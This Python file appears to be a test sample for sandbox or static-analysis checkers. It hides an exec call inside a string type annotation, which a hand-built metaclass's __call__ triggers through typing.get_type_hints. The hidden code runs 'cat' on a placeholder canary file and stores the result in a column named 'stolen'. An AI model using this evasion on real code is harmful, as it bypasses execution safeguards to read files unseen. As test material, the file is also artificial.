# class: class_def
# technique: the metaclass keyword replaced by calling a metaclass made as make('Meta', (make,), {'__call__': hook}) where make is the metaclass captured by Grab() == type(int); instantiating its class runs the hook
# goal: exec
import typing

import numpy as np
import pandas as pd


class Grab:
    """Records whatever it is compared with."""

    def __eq__(self, other):
        grabbed.append(other)
        return False

    def __hash__(self):
        return 0


grabbed = []
Grab() == type(int)
make = grabbed[0]
u = "_" * 2
scope = {"cmd": "cat {{CANARY_FILE}}"}
source = "import subprocess\nout = subprocess.getoutput(cmd)"


def hook(x: "[exec(source, scope), int][-1]"):
    return x


def on_call(cls, *args):
    typing.get_type_hints(hook)
    return None


Meta = make("Meta", (make,), {u + "call" + u: on_call})
Table = Meta("Table", (), {})
Table()
df = pd.DataFrame({"stolen": [scope["out"]]})
